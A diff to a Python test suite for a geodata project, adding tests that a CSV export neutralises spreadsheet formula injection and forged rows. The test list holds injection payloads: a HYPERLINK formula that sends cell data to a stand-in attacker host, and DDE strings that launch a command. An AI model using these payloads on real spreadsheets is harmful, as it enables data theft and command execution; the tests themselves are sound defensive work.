@@ -16,7 +16,9 @@ from __future__ import annotations
 
 import builtins
 import codecs
+import csv
 import datetime as dt
+import io
 import json
 import os
 import re
@@ -42,7 +44,7 @@ from geo.ingest.uploads import (
     articles_from_files,
     safe_name,
 )
-from geo.layers.export import layer_to_geojson
+from geo.layers.export import layer_to_csv, layer_to_geojson
 from geo.places.geocode import Geocoder, Resolution, geocode, suggest
 from geo.places.names import INVISIBLE_CHARS
 from geo.store.store import Store
@@ -121,6 +123,8 @@ EXPECTED: dict[str, tuple[str, str]] = {
     "front_matter_unclosed.md": (INGESTED, ""),
     "front_matter_deep.md": (SKIPPED, "front matter is not valid YAML"),
     "front_matter_alias_bomb.md": (INGESTED, ""),
+    "front_matter_alias_bomb_published.md": (INGESTED, ""),
+    "front_matter_self_alias.md": (INGESTED, ""),
     "date_0001-01-01.md": (INGESTED, ""),
     "date_9999-12-31.md": (INGESTED, ""),
     "date_2023-02-30.md": (INGESTED, ""),
@@ -921,6 +925,48 @@ def test_payloads_round_trip_through_geojson_without_markup(payload: str) -> Non
     assert events["ev-outlet"]["outlet"] == payload
     assert events["ev-url"]["url"] == payload
     assert events["ev-place"]["place_names"] == [payload]
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?q="&A1,"Open the report")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_csv_cells_never_start_a_formula(formula: str) -> None:
+    frame = gpd.GeoDataFrame(
+        [
+            _event_record(
+                "ev-1",
+                title=formula,
+                sentence=formula,
+                place_names=[formula, "Sea of Japan"],
+                actors=["PRK"],
+            )
+        ],
+        geometry="geometry",
+        crs="EPSG:4326",
+    )
+    rows = list(csv.DictReader(io.StringIO(layer_to_csv(frame), newline="")))
+    assert len(rows) == 1
+    for name in ("title", "sentence"):
+        assert rows[0][name] == "'" + formula
+    assert rows[0]["place_names"] == "'" + formula + "|Sea of Japan"
+    for value in rows[0].values():
+        assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert rows[0]["lon"] == "134.0"  # numbers stay numbers (a negative one would too)
+
+
+def test_a_line_break_in_a_csv_cell_cannot_forge_a_row() -> None:
+    record = _event_record("ev-1", sentence="Ships sailed.\rev-forged,art-9,missile_launch")
+    frame = gpd.GeoDataFrame([record], geometry="geometry", crs="EPSG:4326")
+    rows = list(csv.DictReader(io.StringIO(layer_to_csv(frame), newline="")))
+    assert [row["id"] for row in rows] == ["ev-1"]
 
 
 _MARKDOWN_SPECIAL = re.compile(r"(?<!\\)[<>\[\]()`*_#|~$!]")
